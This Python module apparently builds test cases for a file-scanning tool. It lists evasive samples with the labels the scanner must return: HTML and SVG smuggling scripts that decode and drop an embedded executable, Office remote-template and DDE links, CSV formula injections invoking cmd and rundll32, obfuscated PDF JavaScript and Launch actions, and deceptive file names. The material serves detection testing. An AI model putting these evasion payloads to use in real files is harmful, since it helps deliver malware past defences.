"""What attackers do to what is in document_cases.py: facts that must be found all the same, each with what it must not
be taken for. Rows as there."""
import base64
import os
import struct
import zlib

from containers import mail, others, szdd, uuencoded
from samples import biff, iso, ole, ooxml, package, pdf, program, relations, rtf_object, zipped

WORD = "word/document.xml"
EXE = program()


def containers():
    """A program in whatever is no usual archive; and what nobody here can read."""
    disk = {"disk-image"}
    rows = [(f"program in {what}", f"a.{ext}", data, {"program"} | (disk if ext in ("img", "vhd") else set()))
            for what, ext, data in others("run.exe", EXE)]
    lone = [("ACE", "ace", bytes(7) + b"**ACE**"), ("StuffIt", "sit", b"StuffIt (c)1997"), ("old StuffIt", "sit", b"SIT!" + bytes(6) + b"rLau"),
            ("ZOO", "zoo", b"ZOO 2.10 Archive.\x1a\0\0\xdc\xa7\xc4\xfd"), ("ZPAQ", "zpaq", b"7kSt\xa0\x31\x83\xd3"),
            ("LZO", "lzo", b"\x89LZO\0\r\n\x1a\n"), ("ALZ", "alz", b"ALZ\1"), ("EGG", "egg", b"EGGA")]
    rows += [(f"{what}, which cannot be read", f"a.{ext}", head.ljust(200, b"\0"), {"broken"}) for what, ext, head in lone]
    disks = [("VHDX", "vhdx", b"vhdxfile"), ("VMDK", "vmdk", b"KDMV"), ("QCOW", "qcow2", b"QFI\xfb"), ("VDI", "vdi", bytes(64) + b"\x7f\x10\xda\xbe"),
             ("WIM", "wim", b"MSWIM\0\0\0"), ("dynamic VHD", "vhd", b"conectix"),
             ("NTFS", "img", (b"\xeb\x52\x90NTFS    ".ljust(510, b"\0") + b"\x55\xaa"))]
    rows += [(f"{what}, which cannot be read", f"a.{ext}", head.ljust(70000, b"\0"), {"broken"} | disk) for what, ext, head in disks]
    lnk = b"L\0\0\0\1\x14\2\0" + bytes(70)
    return rows + [
        ("program in uuencoded text", "a.txt", b"see below\n\n" + uuencoded("run.exe", EXE), {"program"}),
        ("program in SZDD in a zip", "a.zip", zipped(("b.bin", szdd("", EXE))), {"program"}),
        ("program in mail in a zip", "a.zip", zipped(("b.eml", mail("run.exe", EXE))), {"program"}),
        ("shortcut in an ISO", "a.iso", iso("a.lnk", lnk), {"program", "shortcut", "disk-image"}),
        ("application of HTML in an ISO", "a.iso", iso("a.hta", b"<html><script>x</script>"), {"program", "script", "disk-image"}),
        ("mail with text only", "a.eml", b"From: a\r\nContent-Transfer-Encoding: 7bit\r\n\r\nhello\r\n", set()),
        ("text about encodings", "a.txt", b"Content-Transfer-Encoding: base64 is a field\n\nbegin 644 is not", set()),
    ]


def pages():
    payload = base64.b64encode(zipped(("a.exe", EXE))).decode()
    maker = base64.b64encode(b"var b=new Blob([1]);a.href=URL.createObjectURL(b);a.download='x'").decode()
    made = {"script", "smuggling"}

    def script(text):
        return f"<html><script>{text}</script></html>".encode()
    rows = [
        ("msSaveBlob", script(f"var b=atob('{payload}');navigator.msSaveBlob(new Blob([b]),'x.zip')"), made),
        ("data link", f"<html><a download=x.zip href='data:application/octet-stream;base64,{payload}'>x</a>".encode(), {"smuggling"}),
        ("base64 in an array", script(f"var p=['{payload[:40]}','{payload[40:]}'];var u='data:application/zip;base64,'+p.join('');"
                                      "a.href=u;a.download='x.zip';a.click()"), made),
        ("numbers in an array", script("var a=[77,90];var b=new Blob([new Uint8Array(a)]);location=URL.createObjectURL(b)"), made),
        ("names in pieces", script("var b=new window['Bl'+'ob']([x]);a['down'+'load']='x.zip';var u=window.URL['createObj' + \"ectURL\"](b);"
                                   f"eval(window['at'+'ob']('{payload}'))"), made),
        ("script in base64", script(f"eval(atob('{maker}'))"), made),
        ("names in hexadecimal", script("var c=URL['\\x63\\x72\\x65\\x61\\x74\\x65\\x4f\\x62\\x6a\\x65\\x63\\x74\\x55\\x52\\x4c'](new "
                                        f"window['\\x42lob']([window['\\u0061tob']('{payload}')]))"), made),
        ("percent signs", script("document.write(unescape('%3Cscript%3Evar b=new%20Blob([atob(1)]);URL.createObject%55RL(b)%3C/script%3E'))"),
         made),
        ("fetch of a data link", script(f"fetch('data:application/zip;base64,{payload}').then(r=>r.blob()).then(b=>{{a.href="
                                        "URL.createObjectURL(b);a.download='x.zip'})"), made),
        ("a new line in the tag", b"<html><script\n>1</script\n>", {"script"}),
        ("a slash in the tag", b"<html><script/x>1</script>", {"script"}),
        ("any event", b"<html><div hidden onmouseenter='x()'>", {"script"}),
        ("a text that is no event", b"<html><p title='on'>turn it onward= or once=1</p><a href='/online=1/on-x=2'>x</a>", set()),
        ("a form", b"<html><body><form action='http://x.example'><input name=online></form></body></html>", set()),
        ("strings that are joined", script("var a='x'+'y';console.log('a'+\"b\")"), {"script"}),
    ]
    svg = (f"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script><![CDATA[var b=new Blob([Uint8Array.from(atob('{payload}'))]);"
           "var a=document.createElementNS('http://www.w3.org/1999/xhtml','a');a.href=URL.createObjectURL(b);a.click()]]></script></svg>")
    return [(f"page: {what}", "a.html", data, wanted) for what, data, wanted in rows] + [
        ("picture that makes a file", "a.svg", svg.encode(), made),
        ("picture with an event", "a.svg", b"<svg/onload=alert(1)>", {"script"}),
        ("picture with a frame", "a.svg", b"<svg><foreignObject><iframe src='data:text/html;base64,PHNjcmlwdD4='/></foreignObject></svg>",
         {"script"}),
    ]


def office():
    def rels(text, part="word/_rels/settings.xml.rels"):
        return ooxml(WORD, (part, b"<Relationships><Relationship Type=\"http://x/%s" % text))
    macros = b'<Types><Override PartName="/xl/q.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    nested = (b'<w:document><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> SET c "</w:instrText></w:r><w:r><w:fldChar '
              b'w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69 65</w:instrText></w:r></w:p></w:document>')
    http = "http://e.example/x"
    return [
        ("template in the settings", "a.docx", ooxml(WORD, ("word/_rels/settings.xml.rels", relations("attachedTemplate", http))),
         {"external-link"}),
        ("template by entities", "a.docx", rels(b'attachedTemplate" Target="&#104;ttp://e/x" TargetMode="Ext&#101;rnal"/></Relationships>'),
         {"external-link"}),
        ("template on a share", "a.docx", ooxml(WORD, ("word/_rels/settings.xml.rels", relations("attachedTemplate", "\\\\192.0.2.1\\x"))),
         {"external-link"}),
        ("frame", "a.docx", ooxml(WORD, ("word/_rels/webSettings.xml.rels", relations("frame", http))), {"external-link"}),
        ("document in the document", "a.docx", ooxml(WORD, ("word/_rels/document.xml.rels", relations("subDocument", http))), {"external-link"}),
        ("ribbon of another", "a.docx", ooxml(WORD, ("customUI/customUI.xml", b'<customUI onLoad="http://e.example/x!y"/>')), {"external-link"}),
        ("ribbon of its own", "a.docx", ooxml(WORD, ("customUI/customUI.xml", b'<customUI onLoad="start"/>')), set()),
        ("mail in the document", "a.docx", ooxml(WORD, ("word/chunk.mht", mail("run.exe", EXE))), {"program"}),
        ("RTF in the document", "a.docx", ooxml(WORD, ("word/c.rtf", rtf_object(package("a.exe", EXE)))), {"program", "embedded-object"}),
        ("macros by their type only", "a.xlsm", zipped(("[Content_Types].xml", macros), ("xl/workbook.xml", b"<x/>"), ("xl/q.bin", b"zz")),
         {"macro"}),
        ("binary macro sheet", "a.xlsb", ooxml("xl/workbook.bin", ("xl/macrosheets/sheet1.bin", b"\x81\1\0")), {"macro"}),
        ("binary macro sheet elsewhere", "a.xlsb", ooxml("xl/workbook.bin", ("xl/x/s.bin", b"\x81\1\0"),
                                                         ("xl/_rels/workbook.bin.rels", relations("xlMacrosheet", "x/s.bin", None))), {"macro"}),
        ("macros of slides", "a.pptm", ooxml("ppt/presentation.xml", ("ppt/vbaProject.bin", ole({"VBA/dir": b"x"}))), {"macro"}),
        ("link of tables in other letters", "a.xlsx", ooxml("xl/workbook.xml", ("xl/EXTERNALlinks/a.xml",
                                                            b'<x:externalLink><x:ddeLink ddeService="cmd"/></x:externalLink>')), {"dde"}),
        ("sheet of macros that is hidden", "a.xls", ole({"Workbook": biff((0x809, struct.pack("<HHHHII", 0x600, 5, 0, 0, 0, 0)),
                                                         (0x85, struct.pack("<IBBBB", 0, 2, 1, 1, 0) + b"m"))}), {"macro"}),
        ("field in a field", "a.docx", ooxml(WORD, content=nested), {"dde"}),
        ("query of a table", "a.iqy", b"WEB\r\n1\r\nhttp://e.example/x\r\n", {"external-link", "program", "script"}),
        ("query as text", "a.txt", b"WEB\r\n1\r\nhttp://e.example/x\r\n", {"external-link"}),
        ("CSV, at sign", "a.csv", b"@SUM(1+1)*cmd|' /C calc'!A0\n", {"dde"}),
        ("CSV, tab", "a.csv", b"\t=rundll32|'URL.dll,OpenURL calc.exe'!A\n", {"dde"}),
        ("CSV with a link", "a.csv", b'=HYPERLINK("http://x.example")\n', set()),
        ("rtf, digits in groups", "a.rtf", rtf_object(package("a.exe", EXE), lambda h: b"".join(b"{%s}" % h[i:i + 10] for i in
                                                                                              range(0, len(h), 10))), {"embedded-object", "program"}),
        ("rtf, updates itself", "a.doc", rtf_object(package("a.exe", EXE)).replace(b"\\objemb", b"\\objemb\\objupdate"),
         {"embedded-object", "program"}),
        ("rtf with a picture from elsewhere", "a.rtf", b'{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "http://e/x.png" \\\\d}}}',
         {"external-link"}),
    ]


def lzw(data):
    """Each octet as it is, and the table emptied before codes get longer."""
    bits = ""
    for i, c in enumerate(data):
        bits += ("100000000" if i % 200 == 0 else "") + f"{c:09b}"
    bits += "100000001"
    bits += "0" * (-len(bits) % 8)
    return bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))


def portable():
    js = b"/S/JavaScript/JS(app.alert(1))"
    objects = b"1 0 <</OpenAction<<" + js + b">>>>"
    rows = objects.ljust(48)
    changed = b"".join(b"\2" + bytes((rows[i + k] - (rows[i + k - 8] if i else 0)) & 255 for k in range(8)) for i in range(0, 48, 8))

    def stream(filters, data, more=b""):
        return pdf((b"/Type/ObjStm/N 1/First 4" + more + b"/Filter" + filters, data))
    spec = b"/Type/Filespec/F(a.txt)/EF<</F 7 0 R>>"
    return [
        ("pdf, names in hexadecimal", "a.pdf", pdf((b"/AA<</O<</S/#4aava#53cript/#4a#53 (x)>>>>", None)), {"script"}),
        ("pdf, base 85", "a.pdf", stream(b"[/ASCII85Decode /FlateDecode]", base64.a85encode(zlib.compress(objects)) + b"~>"), {"script"}),
        ("pdf, hexadecimal and base 85", "a.pdf", stream(b"[/AHx/A85]", base64.a85encode(objects).hex().encode() + b">"), {"script"}),
        ("pdf, runs", "a.pdf", stream(b"/RunLengthDecode", bytes([len(objects) - 1]) + objects + b"\x80"), {"script"}),
        ("pdf, LZW", "a.pdf", stream(b"/LZWDecode", lzw(objects)), {"script"}),
        ("pdf, predicted", "a.pdf", stream(b"/FlateDecode", zlib.compress(changed), b"/DecodeParms<</Predictor 12/Columns 8>>"), {"script"}),
        ("pdf, a filter in other letters", "a.pdf", stream(b"/Fl#61teDecode", zlib.compress(objects)), {"script"}),
        ("pdf, a filter that nobody knows", "a.pdf", stream(b"/Crypt", os.urandom(50)), {"broken"}),
        ("pdf that launches, in a stream", "a.pdf",
         stream(b"/FlateDecode", zlib.compress(b"1 0 <</OpenAction<</S/La#75nch/F(cmd.exe)>>>>")), {"script", "pdf-launch"}),
        ("pdf with a program, base 85", "a.pdf", pdf((b"/Type/EmbeddedFile/Filter/ASCII85Decode", base64.a85encode(EXE) + b"~>")),
         {"embedded-object", "program"}),
        ("pdf with a program that only others call a file", "a.pdf",
         b"%PDF-1.7\n1 0 obj\n<<" + spec + b">>\nendobj\n7 0 obj\n<</Filter/FlateDecode>>stream\n" + zlib.compress(EXE) + b"\nendstream\nendobj\n",
         {"embedded-object", "program"}),
        ("pdf with a program, named in a stream", "a.pdf",
         b"%PDF-1.7\n7 0 obj\n<</Filter/FlateDecode>>stream\n" + zlib.compress(EXE) + b"\nendstream\nendobj\n3 0 obj\n<</Type/ObjStm/Filter/FlateDecode>>"
         b"stream\n" + zlib.compress(b"1 0 <<" + spec + b">>") + b"\nendstream\nendobj\n", {"embedded-object", "program"}),
        ("pdf that sends a form", "a.pdf", pdf((b"/OpenAction<</S/SubmitForm/F(http://e.example)>>", None)), {"external-link"}),
        ("pdf with a link", "a.pdf", pdf((b"/A<</S/URI/URI(http://e.example)>>", None)), set()),
        ("pdf in a zip", "a.zip", zipped(("a.pdf", pdf((b"/OpenAction<<" + js + b">>", None)))), {"script"}),
    ]


def file_names():
    """Of text, which none of them runs as such; the mismatch is no matter here."""
    odd = {"type-mismatch"}
    return [
        ("name: dot of full width", "a\uff0eexe", b"x", {"program"} | odd), ("name: one dot leader", "a\u2024scr", b"x", {"program"} | odd),
        ("name: character without width", "a.e\u200bxe", b"x", {"program"} | odd), ("name: blank that does not break", "a.exe\u00a0", b"x", {"program"} | odd),
        ("name: stream of the file system", "a.exe::$DATA", b"x", {"program"} | odd), ("name: control character", "a.exe\x01", b"x", {"program"} | odd),
        ("name: very long", "a" * 5000 + ".exe", b"x", {"program"} | odd), ("name: dots behind it", "a.exe. ..", b"x", {"program"} | odd),
        ("name: settings", "a.settingcontent-ms", b"x", {"program"}), ("name: remote desktop", "a.rdp", b"x", {"shortcut"}),
        ("name: in other letters", "a.\u0435xe", b"x", set()),
    ]


def cases():
    return containers() + pages() + office() + portable() + file_names()
